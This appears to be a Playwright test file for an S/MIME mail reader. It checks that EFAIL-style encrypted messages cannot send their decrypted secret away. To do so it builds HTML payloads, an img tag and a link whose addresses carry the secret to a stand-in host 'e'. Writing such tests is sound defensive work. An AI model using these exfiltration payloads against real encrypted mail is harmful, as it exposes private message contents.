// EFAIL in a browser: each message of smime/internal/attacks that would carry away what it was encrypted around is opened, as
// text and with formatting, and a server at the end of every address in it writes down what comes. Nothing does.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Page } from 'playwright-core';
import { Browser, picture } from './browser.ts';
import { Caller } from './engine-calls.ts';
import { temporaryFolder } from './rig/folder.ts';
import { skipWithout } from './rig/packages.ts';
import { eventually, goProgram } from './rig/program.ts';
import { type Recorder, startRecorder } from './rig/recorder.ts';

/** Long enough for a request on this computer, were there one. */
const WAIT = 1000;

/** What the messages are encrypted around, and the host to which they would carry it: see smime/internal/attacks. */
const secret = 'The vault opens with 4711.';
const host = 'e';
const address = `//${host}/`;

describe('EFAIL', { skip: skipWithout('chromium', 'openssl') }, () => {
  const messages = temporaryFolder('attacks');
  let recorder: Recorder;
  let browser: Browser;
  let page: Page;

  before(async () => {
    execFileSync(goProgram('attacks'), ['--out', messages]);
    recorder = await startRecorder(host);
    browser = await Browser.launch({ args: recorder.args });
    const caller = await Caller.open(browser);
    await caller.ask('setPassphrase', { new: 'correct horse battery staple' });
    await caller.ask('importKey', { name: 'bob.p12', password: 'signet' }, message('bob.p12'));
    await caller.ask('importAnchors', { names: ['ca.pem'] }, message('ca.pem'));
    await caller.page.close();
    page = await browser.open(browser.url('open/open.html'));
  });

  after(async () => {
    await browser?.close();
    await recorder?.stop();
  });

  const message = (name: string) => readFileSync(join(messages, name));

  /** Opens a message and waits until the reader has said what it is. */
  async function open(name: string, bytes: Buffer = message(name)): Promise<void> {
    await page.goto(browser.url('open/open.html'));
    await page.locator('input[type=file]').setInputFiles({ name, mimeType: '', buffer: bytes });
    await page.locator('.body, .refusal').first().waitFor();
  }

  /** Encrypts a message to Bob, with AES in CBC mode. */
  function encrypt(lines: string[]): Buffer {
    const program = goProgram('signet');
    return execFileSync(program, ['encrypt', '--to', join(messages, 'bob.pem')], {
      input: lines.join('\r\n'),
    });
  }

  const formatted = () => page.getByRole('button', { name: 'Show with formatting' });

  /** All pages that show HTML, once they do. */
  async function shown(): Promise<string[]> {
    const count = await page.locator('iframe.sandbox').count();
    return eventually('the HTML', async () => {
      const frames = page.frames().filter(frame => frame.url().endsWith('/reader/sandbox.html'));
      const ready = await Promise.all(frames.map(frame => frame.locator('#message').count()));
      if (frames.length !== count || ready.includes(0)) return undefined;
      return Promise.all(frames.map(frame => frame.locator('#message').innerHTML()));
    });
  }

  test('no message sends a word of it away, as text or with formatting', async () => {
    const names = readdirSync(messages).filter(name => /^efail-.*\.eml$/.test(name));
    assert.ok(names.length >= 10, 'the messages are there');
    for (const name of names) {
      await open(name);
      const pages = await shown();
      // The message's own, and those of the parts that are shown by themselves.
      while ((await formatted().count()) > 0) {
        await formatted().first().click();
        pages.push(...(await shown()));
      }
      // What stands around an encrypted part is in no page with it.
      for (const html of pages) assert.ok(!html.includes(secret) || !html.includes(address), name);
      assert.equal(await page.getByRole('button', { name: /^Fetch pictures/ }).count(), 0, name);
    }
    await sleep(WAIT);
    assert.deepEqual(recorder.seen, []);
  });

  test('what was changed without the key is shown as text, then without its pictures', async () => {
    await open('efail-gadgets.eml');
    // The attack itself worked: the changed ciphertext holds an image whose address is the secret.
    await page.getByText('Shown as plain text: nothing proves').waitFor();
    assert.equal(await page.locator('iframe.sandbox').count(), 0);
    await picture(page, 'reader-efail');
    await formatted().click();
    const [html = ''] = await shown();
    assert.doesNotMatch(html, /http|4711/);
    await page.getByText('One picture was not fetched from the internet. It is not offered here').waitFor();
    await sleep(WAIT);
    assert.deepEqual(recorder.seen, []);
  });

  test('a link that anybody may have put there asks before it is opened', async () => {
    const link = `http://${host}/?${secret.replaceAll(/\W+/g, '-')}x`;
    const encrypted = encrypt([
      ...header,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      '',
      ...['--b', 'Content-Type: text/html', '', `<p><a href="${link}">the report</a></p>`],
      ...['--b', 'Content-Type: message/rfc822', 'Content-Disposition: attachment; filename=inside.eml', ''],
      ...['From: alice@example.test', 'Subject: Inside', '', `See ${link}`, '--b--', ''],
    ]);
    await open('links.eml', encrypted);
    const question = page.getByRole('alertdialog');
    const pages = browser.context.pages().length;
    const asks = async (click: () => Promise<void>) => {
      await click();
      await question.getByText(`Open ${host}? Nothing proves that the sender put this link there.`).waitFor();
      await question.getByText(link).waitFor();
      await question.getByRole('button', { name: 'Stay here' }).click();
      assert.equal(await question.count(), 0);
    };
    await asks(() => page.getByRole('button', { name: link }).click());
    await formatted().click();
    await shown();
    const frame = page.frames().find(each => each.url().endsWith('/reader/sandbox.html'));
    await asks(async () => frame?.getByRole('link', { name: 'the report' }).click());
    // A message inside is as doubtful as the one around it.
    await page.getByRole('button', { name: 'Open inside.eml' }).click();
    await asks(() => page.getByRole('button', { name: link }).click());
    await sleep(WAIT);
    assert.equal(browser.context.pages().length, pages);
    assert.deepEqual(recorder.seen, []);
  });

  test('what an attachment carries is shown as text first, too', async () => {
    const inside = encrypt([
      ...header,
      'Content-Type: text/html',
      '',
      `<p>Hello</p><img src="http://${host}/?${secret}" alt="seal">`,
    ]);
    const [, body = ''] = inside.toString('latin1').split('\r\n\r\n');
    const carrier = [
      ...header,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=b',
      ...['', '--b', '', 'See the attachment.', '--b'],
      'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m',
      ...['Content-Transfer-Encoding: base64', '', body, '--b--', ''],
    ].join('\r\n');
    await open('carrier.eml', Buffer.from(carrier, 'latin1'));
    await page.getByText('Shown as plain text: nothing proves').waitFor();
    await page.getByText('[seal]').waitFor();
    await formatted().click();
    const [html = ''] = await shown();
    assert.match(html, /Hello/);
    await sleep(WAIT);
    assert.deepEqual(recorder.seen, []);
  });
});

const header = ['From: alice@example.test', 'To: bob@example.test', 'Subject: Hello'];
